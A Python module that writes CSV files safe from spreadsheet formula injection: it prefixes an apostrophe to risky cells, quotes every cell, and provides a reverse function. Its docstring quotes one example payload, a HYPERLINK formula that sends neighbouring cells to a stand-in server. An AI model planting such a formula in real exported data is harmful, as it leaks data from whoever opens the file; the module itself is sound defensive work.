"""CSV cells that a spreadsheet shows as text, never runs as a formula.

A spreadsheet opening a CSV file evaluates a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula (and some strip a leading tab or carriage return first), so a participant's
comment ``=HYPERLINK("http://example.org/?leak="&B2,"x")`` would send the neighbouring cells
to another server from the researcher's machine. OWASP's remedy for CSV injection is applied
to every cell of every CSV file the project writes, the header row included: such a cell gets a
leading apostrophe, which spreadsheets take as "this is text" and do not display, and every
cell is wrapped in double quotes (quotes inside doubled, as CSV has it). Quoting every cell
also keeps a carriage return inside a cell: with a ``\n`` line terminator the ``csv`` module
would otherwise leave it bare, and a reader would end the row there.

Two choices keep the files useful:

- A cell that is a plain number (``-3``, ``+0.5``, ``1e-9``) is left alone: it cannot be a
  formula, and a spreadsheet must still read it as a number.
- A cell that already begins with an apostrophe gets one more, so that the rule can be undone
  exactly: remove one leading apostrophe from every cell that has one (``original_cell``).

Every CSV writer calls ``writer`` (or ``neutralised_cell``); JSON Lines and Parquet files are
never touched, they stay exact.
"""

import csv
from collections.abc import Iterable
from typing import IO, Any

# The rule itself is evaluation's (``evaluation/spreadsheet_cells.py``, for ``compare --format
# csv``), imported rather than copied: every CSV file of the project follows one.
from evaluation.spreadsheet_cells import FORMULA_STARTS, TEXT_MARK, neutralised_cell

__all__ = ["FORMULA_STARTS", "SafeWriter", "neutralised_cell", "original_cell", "writer"]


def original_cell(cell: str) -> str:
    """The value ``neutralised_cell`` was given: one leading apostrophe removed."""
    return cell[1:] if cell.startswith(TEXT_MARK) else cell


class SafeWriter:
    """``csv.writer`` with every cell neutralised and quoted; cells that are not text are
    written as ``csv.writer`` writes them (``None`` as an empty cell, numbers as numbers).

    ``quote_all=False`` is for files another service parses strictly (Prolific's bulk bonus
    box takes ``id,amount`` lines): cells are quoted only where CSV needs it, and a row with a
    carriage return in a cell is quoted whole, since the ``csv`` module leaves ``\r`` bare."""

    def __init__(self, file: IO[str], quote_all: bool = True, **options: Any) -> None:
        self._quoted = csv.writer(file, **{**options, "quoting": csv.QUOTE_ALL})
        self._minimal = None if quote_all else csv.writer(file, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        cells = _cells(row)
        if self._minimal is None or any(isinstance(c, str) and "\r" in c for c in cells):
            self._quoted.writerow(cells)
        else:
            self._minimal.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def _cells(row: Iterable[Any]) -> list[Any]:
    return [neutralised_cell(value) if isinstance(value, str) else value for value in row]


def writer(file: IO[str], quote_all: bool = True, **options: Any) -> SafeWriter:
    """A CSV writer for ``file`` (options as ``csv.writer``'s) that neutralises every cell."""
    return SafeWriter(file, quote_all, **options)
